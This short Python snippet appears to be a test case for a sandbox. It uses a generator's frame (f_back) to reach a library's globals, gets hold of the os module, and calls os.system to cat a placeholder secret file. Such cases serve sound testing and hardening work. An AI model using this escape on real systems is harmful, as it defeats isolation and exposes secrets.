# A generator expression consumed inside a library: f_back is a library's frame.
# effect: run
import statistics
found = []
data = (found.append(me.gi_frame.f_back) or 1.0 for _ in range(3))
me = data
statistics.mean(data)
found[0].f_globals["sys"].modules["os"].system("cat @SECRET@")
